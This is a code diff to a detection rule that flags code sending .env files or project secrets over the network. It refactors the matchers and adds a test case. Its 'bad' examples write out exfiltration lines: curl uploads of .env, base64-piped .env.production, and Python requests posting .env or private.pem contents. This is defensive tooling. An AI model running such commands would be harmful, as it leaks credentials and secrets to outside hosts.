@@ -1,9 +1,11 @@
-import { all, anyArgument, call, matches, not, says, words } from "../match.ts";
+import { all, any, anyArgument, call, matches, not, says, words } from "../match.ts";
 import { defineRule } from "../rule.ts";
 import { OWN_KEY } from "../vocabulary/commands.ts";
 import { SENDS } from "../vocabulary/network-calls.ts";
 import { ENV_FILE, PROJECT_SECRET } from "../vocabulary/places.ts";
 import { SHELL_LOOKUPS, SHELL_SENDS } from "../vocabulary/shell-commands.ts";
+
+const OWN_CERTIFICATES = ["cert", "verify", "auth", "context", "ca", "key", "agent", "httpsAgent"];
 
 export default defineRule({
   id: "env-file-sent",
@@ -18,13 +20,14 @@ export default defineRule({
   match: [
     call({
       of: SENDS,
-      where: anyArgument(matches(ENV_FILE, PROJECT_SECRET), {
-        except: ["cert", "verify", "auth", "context", "ca", "key", "agent", "httpsAgent"],
-      }),
+      where: any(
+        anyArgument(matches(ENV_FILE), { except: OWN_CERTIFICATES }),
+        anyArgument(matches(PROJECT_SECRET), { except: OWN_CERTIFICATES }),
+      ),
     }),
     call({
       of: [...SHELL_SENDS, ...SHELL_LOOKUPS],
-      where: all(anyArgument(matches(ENV_FILE, PROJECT_SECRET)), not(words(says(OWN_KEY)))),
+      where: all(any(anyArgument(matches(ENV_FILE)), anyArgument(matches(PROJECT_SECRET))), not(words(says(OWN_KEY)))),
     }),
   ],
   bad: [
@@ -38,6 +41,7 @@ export default defineRule({
     { "run.sh": 'curl -F "f=@.env" https://example.com' },
     { "run.sh": "cat .env.production | base64 | curl -d @- https://example.com" },
     'import requests\nrequests.post(url, data=open(".env").read())',
+    'import requests\nrequests.get(url, headers={"X-Api-Key": open("private.pem").read()})',
     'import requests\nrequests.get(url, headers={"X-Trace": open(".env").read()})',
     'import requests\nsettings = {}\nfor line in open(".env"):\n    name, value = line.split("=", 1)\n    settings[name] = value\nrequests.post(url, json=settings)',
   ],
